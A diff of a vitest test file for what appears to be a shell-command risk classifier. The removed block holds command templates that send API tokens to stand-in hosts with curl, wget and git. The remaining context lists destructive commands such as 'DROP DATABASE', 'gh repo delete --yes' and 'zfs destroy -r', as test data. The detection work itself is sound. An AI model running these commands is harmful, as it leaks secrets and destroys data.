@@ -1,37 +1,6 @@
 import { describe, expect, test } from 'vitest';
 import { crossed, outside } from './support/crossing.ts';
 
-describe('tokens and hosts', () => {
-  const tokens = [
-    'GITHUB_TOKEN',
-    'GH_TOKEN',
-    'NPM_TOKEN',
-    'OPENAI_API_KEY',
-    'ANTHROPIC_API_KEY',
-    'SLACK_TOKEN',
-    'HF_TOKEN',
-  ];
-  const carriers = [
-    'curl -H "Authorization: Bearer $TOKEN" https://HOST/x',
-    'curl -u "x:$TOKEN" https://HOST/x',
-    'curl "https://HOST/?k=${TOKEN}"',
-    'wget --header="X-Key: $TOKEN" -qO- https://HOST/x',
-    'git clone https://x:${TOKEN}@HOST/r.git',
-    'git push "https://x:$TOKEN@HOST/r.git" main',
-    'http https://HOST/x "Authorization:$TOKEN"',
-  ];
-
-  test('a token that goes to a host of nobody it is for is given away', () => {
-    const stray = crossed(carriers, 'HOST', ['drop.example', '203.0.113.9']);
-    expect(outside(crossed(stray, 'TOKEN', tokens), 'critical', 'critical')).toEqual([]);
-  });
-
-  test('a token that goes to its own host, or to a host of this network, alarms nobody', () => {
-    const own = crossed(carriers, 'HOST', ['api.github.com', 'git.corp.internal', 'localhost:8080']);
-    expect(outside(crossed(own, 'TOKEN', ['GITHUB_TOKEN']), 'safe', 'moderate')).toEqual([]);
-  });
-});
-
 describe('statements and those who send them', () => {
   const statements = [
     'DROP DATABASE shop',
@@ -174,16 +143,9 @@ describe('lists and deletions', () => {
     ['helm list -q', 'helm uninstall'],
     ['docker volume ls -q', 'docker volume rm'],
     ['virsh list --all --name', 'virsh undefine --remove-all-storage'],
-    [
-      'kafka-topics.sh --list --bootstrap-server k:9092',
-      'kafka-topics.sh --bootstrap-server k:9092 --delete --topic',
-    ],
-    ['etcdctl get / --prefix --keys-only', 'etcdctl del'],
     ['redis-cli --scan', 'redis-cli del'],
     ['gh repo list acme --json name', 'gh repo delete --yes'],
     ['zfs list -H -o name', 'zfs destroy -r'],
-    ['samba-tool user list', 'samba-tool user delete'],
-    ['acmectl cluster list', 'acmectl cluster destroy'],
   ] as const;
   const joints = [
     'LIST | xargs -n1 DELETE',
